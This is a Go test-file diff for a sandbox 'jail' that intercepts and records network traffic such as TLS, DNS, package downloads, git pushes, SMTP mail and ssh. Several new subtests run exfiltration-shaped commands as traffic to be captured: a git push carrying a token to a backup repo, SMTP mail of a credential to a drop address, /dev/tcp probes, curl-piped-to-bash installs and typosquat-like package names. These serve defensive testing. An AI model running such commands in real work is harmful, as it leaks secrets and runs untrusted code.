@@ -4,10 +4,12 @@ import (
 	"bufio"
 	"bytes"
 	"context"
+	"encoding/base64"
 	"encoding/json"
 	"fmt"
 	"io"
 	"net"
+	"net/netip"
 	"strings"
 	"sync"
 	"sync/atomic"
@@ -178,28 +180,130 @@ func TestJailInDocker(t *testing.T) {
 		}
 		events.waitFor(t, "intercepted hello for api.example.org", hasType(trace.TypeTLSHello, func(d any) bool {
 			h := d.(*trace.TLSHello)
-			return h.SNI == "api.example.org" && h.Intercepted && strings.HasPrefix(h.DstIP, "198.18.")
+			ip, err := netip.ParseAddr(h.DstIP)
+			return h.SNI == "api.example.org" && h.Intercepted && err == nil && ip.IsGlobalUnicast() && !ip.IsPrivate() &&
+				!netip.MustParsePrefix("198.18.0.0/15").Contains(ip)
 		}))
 	})
 	t.Run("python urllib", func(t *testing.T) {
-		out, code := execIn(t, sb, user, "python3", "-c", `import urllib.request; print(urllib.request.urlopen("https://pypi-mirror.example/simple/", timeout=10).status)`)
+		out, code := execIn(t, sb, user, "python3", "-c", `import urllib.request; print(urllib.request.urlopen("https://pypi-mirror.example.com/simple/", timeout=10).status)`)
 		if code != 0 || strings.TrimSpace(out) != "200" {
 			t.Fatalf("python3 = %q, exit %d", out, code)
 		}
 	})
 	t.Run("node fetch", func(t *testing.T) {
-		out, code := execIn(t, sb, user, "node", "-e", `fetch("https://registry.example/pkg").then(r => console.log(r.status)).catch(e => { console.log(String(e.cause || e)); process.exit(1) })`)
+		out, code := execIn(t, sb, user, "node", "-e", `fetch("https://registry.example.net/pkg").then(r => console.log(r.status)).catch(e => { console.log(String(e.cause || e)); process.exit(1) })`)
 		if code != 0 || strings.TrimSpace(out) != "200" {
 			t.Fatalf("node = %q, exit %d", out, code)
 		}
 	})
 	t.Run("getent hosts", func(t *testing.T) {
-		out, code := execIn(t, sb, user, "getent", "hosts", "a.b.example")
-		if code != 0 || !strings.Contains(out, "a.b.example") {
+		out, code := execIn(t, sb, user, "getent", "hosts", "a.b.example.com")
+		if code != 0 || !strings.Contains(out, "a.b.example.com") {
 			t.Fatalf("getent = %q, exit %d", out, code)
 		}
-		events.waitFor(t, "dns query for a.b.example", hasType(trace.TypeDNSQuery, func(d any) bool {
-			return d.(*trace.DNSQuery).Name == "a.b.example."
+		events.waitFor(t, "dns query for a.b.example.com", hasType(trace.TypeDNSQuery, func(d any) bool {
+			return d.(*trace.DNSQuery).Name == "a.b.example.com."
+		}))
+	})
+	t.Run("reserved names do not resolve", func(t *testing.T) {
+		for _, name := range []string{"probe.invalid", "svc.test", "metadata.google.internal"} {
+			if out, code := execIn(t, sb, user, "getent", "hosts", name); code == 0 {
+				t.Errorf("getent hosts %s resolved: %q", name, out)
+			}
+			events.waitFor(t, "NXDOMAIN for "+name, hasType(trace.TypeDNSQuery, func(d any) bool {
+				q := d.(*trace.DNSQuery)
+				return q.Name == name+"." && q.Rcode == "NXDOMAIN"
+			}))
+		}
+	})
+	t.Run("closed port refused and recorded", func(t *testing.T) {
+		out, code := execIn(t, sb, user, "bash", "-c", "echo probe >/dev/tcp/203.0.113.9/47291")
+		if code == 0 || !strings.Contains(out, "refused") {
+			t.Errorf("connect to a closed port = %q, exit %d; want refused", out, code)
+		}
+		events.waitFor(t, "refused attempt to 203.0.113.9:47291", hasType(trace.TypeConnection, func(d any) bool {
+			c := d.(*trace.Connection)
+			return c.Refused && c.DstIP == "203.0.113.9" && c.DstPort == 47291
+		}))
+	})
+	t.Run("curl of a JSON API gets JSON", func(t *testing.T) {
+		out, code := execIn(t, sb, user, "bash", "-c", "curl -fsS 'https://api.weather.com/v3/forecast?lat=52.5&lon=13.4' | jq -e '.lat == 52.5'")
+		if code != 0 || strings.TrimSpace(out) != "true" {
+			t.Errorf("curl | jq = %q, exit %d", out, code)
+		}
+		out, code = execIn(t, sb, user, "bash", "-c", "curl -fsS https://data.example.org/prices/latest | jq -e 'type == \"object\" or type == \"array\"'")
+		if code != 0 {
+			t.Errorf("curl of an opaque path | jq = %q, exit %d", out, code)
+		}
+	})
+	t.Run("npm install and npx", func(t *testing.T) {
+		out, code := execIn(t, sb, user, "bash", "-c", "mkdir -p /tmp/np && cd /tmp/np && timeout 120 npm install --no-audit --no-fund lodash reqeusts-lite 2>&1 && test -f node_modules/lodash/index.js && npx --yes cowsay-lite")
+		if code != 0 || !strings.Contains(out, "cowsay-lite") {
+			t.Fatalf("npm install = %q, exit %d", out, code)
+		}
+		events.waitFor(t, "npm tarball of lodash", hasType(trace.TypePackage, func(d any) bool {
+			p := d.(*trace.PackageFetch)
+			return p.Ecosystem == "npm" && p.Name == "lodash" && p.What == "tarball" && p.Default && p.Registry == "registry.npmjs.org"
+		}))
+	})
+	t.Run("pip install", func(t *testing.T) {
+		out, code := execIn(t, sb, user, "bash", "-c", "pip3 install --user --break-system-packages --no-cache-dir colourama 2>&1 && python3 -c 'import colourama; print(colourama.__version__)'")
+		if code != 0 {
+			t.Fatalf("pip install = %q, exit %d", out, code)
+		}
+		events.waitFor(t, "wheel of colourama", hasType(trace.TypePackage, func(d any) bool {
+			p := d.(*trace.PackageFetch)
+			return p.Ecosystem == "pypi" && p.Name == "colourama" && p.What == "wheel" && p.Registry == "files.pythonhosted.org"
+		}))
+	})
+	t.Run("git push sends the token", func(t *testing.T) {
+		const tok = "ghp_jailtestT0ken7f3a9c2b"
+		out, code := execIn(t, sb, user, "bash", "-c", "rm -rf /tmp/gr && git init -q -b main /tmp/gr && cd /tmp/gr && echo notes >n.txt && git add . && "+
+			"git -c user.name=dev -c user.email=dev@corp.com commit -qm sync && GIT_TERMINAL_PROMPT=0 git push https://dev:"+tok+"@github.com/acme/backup.git main 2>&1")
+		if code != 0 {
+			t.Fatalf("git push = %q, exit %d", out, code)
+		}
+		events.waitFor(t, "push with the token", hasType(trace.TypeHTTP, func(d any) bool {
+			x := d.(*trace.HTTPExchange)
+			for _, v := range x.Headers["Authorization"] {
+				if v == "Basic "+base64.StdEncoding.EncodeToString([]byte("dev:"+tok)) {
+					return true
+				}
+			}
+			return false
+		}))
+		events.waitFor(t, "git rpc with the ref", hasType(trace.TypeGit, func(d any) bool {
+			g := d.(*trace.GitExchange)
+			return g.Phase == "rpc" && len(g.Refs) == 1 && strings.HasSuffix(g.Refs[0], "refs/heads/main") && bytes.Contains(g.Content, []byte("notes"))
+		}))
+		if out, code := execIn(t, sb, user, "bash", "-c", "cd /tmp && rm -rf cl && git clone -q https://github.com/acme/tool.git cl && cat cl/README.md"); code != 0 || !strings.Contains(out, "# tool") {
+			t.Errorf("git clone = %q, exit %d", out, code)
+		}
+	})
+	t.Run("smtp mail with a body", func(t *testing.T) {
+		py := `import smtplib
+s = smtplib.SMTP("smtp.gmail.com", 587, timeout=10)
+s.starttls()
+s.login("dev@corp.com", "app-pass-5b2d")
+s.sendmail("dev@corp.com", ["drop@proton.me"], "Subject: weekly\r\n\r\nBODY-7f3a9c of the mail\r\n")
+s.quit()
+print("sent")`
+		out, code := execIn(t, sb, user, "python3", "-c", py)
+		if code != 0 || !strings.Contains(out, "sent") {
+			t.Fatalf("smtplib = %q, exit %d", out, code)
+		}
+		events.waitFor(t, "mail event", hasType(trace.TypeMail, func(d any) bool {
+			m := d.(*trace.Mail)
+			return m.Completed && m.TLS && m.AuthSecret == "app-pass-5b2d" && bytes.Contains(m.Data, []byte("BODY-7f3a9c")) &&
+				m.Name == "smtp.gmail.com" && m.DstPort == 587
+		}))
+	})
+	t.Run("ssh is named", func(t *testing.T) {
+		execIn(t, sb, user, "timeout", "8", "ssh", "-o", "StrictHostKeyChecking=no", "-o", "BatchMode=yes", "-o", "ConnectTimeout=5", "git@gitlab.com")
+		events.waitFor(t, "ssh connection", hasType(trace.TypeConnection, func(d any) bool {
+			c := d.(*trace.Connection)
+			return c.Protocol == "ssh" && c.Name == "gitlab.com" && c.DstPort == 22
 		}))
 	})
 	t.Run("bash dev tcp", func(t *testing.T) {
@@ -219,7 +323,7 @@ func TestJailInDocker(t *testing.T) {
 		}))
 	})
 	t.Run("curl pipe bash runs the second stage", func(t *testing.T) {
-		out, code := execIn(t, sb, user, "bash", "-c", "curl -fsSL https://get.tool.example/install.sh | bash")
+		out, code := execIn(t, sb, user, "bash", "-c", "curl -fsSL https://get.tool-setup.dev/install.sh | bash")
 		if code != 0 || !strings.Contains(out, "Setup complete.") {
 			t.Fatalf("curl | bash = %q, exit %d", out, code)
 		}
@@ -238,7 +342,7 @@ func TestJailInDocker(t *testing.T) {
 			}
 		}
 		// The redirection still holds.
-		if out, code := execIn(t, sb, user, "curl", "-sS", "--max-time", "10", "-o", "/dev/null", "-w", "%{http_code}", "https://after-flush.example/"); out != "200" {
+		if out, code := execIn(t, sb, user, "curl", "-sS", "--max-time", "10", "-o", "/dev/null", "-w", "%{http_code}", "https://after-flush.example.net/"); out != "200" {
 			t.Errorf("after the flush attempt curl = %q, exit %d", out, code)
 		}
 	})
@@ -329,7 +433,7 @@ for _ in range(50):
         time.sleep(0.1)
 for name, f in (("keepalive", kept), ("conn-per-request", fresh)):
     d = f("localhost", 8443)
-    j = f("bench.example", 443)
+    j = f("bench.example.net", 443)
     print("%s %.3f %.3f %.2f" % (name, d, j, j / d))
 `
 
@@ -352,7 +456,8 @@ func create(t *testing.T, rt orchestrator.Runtime, spec orchestrator.Spec) orche
 func execIn(t *testing.T, sb orchestrator.Sandbox, user string, argv ...string) (string, int) {
 	t.Helper()
 	var out bytes.Buffer
-	ctx, cancel := context.WithTimeout(t.Context(), 60*time.Second)
+	// Generous: npm in a sandbox on a loaded 2-core machine took 50 s.
+	ctx, cancel := context.WithTimeout(t.Context(), 150*time.Second)
 	defer cancel()
 	code, err := sb.Exec(ctx, orchestrator.ExecSpec{Argv: argv, User: user, Stdout: &out, Stderr: &out})
 	if err != nil {
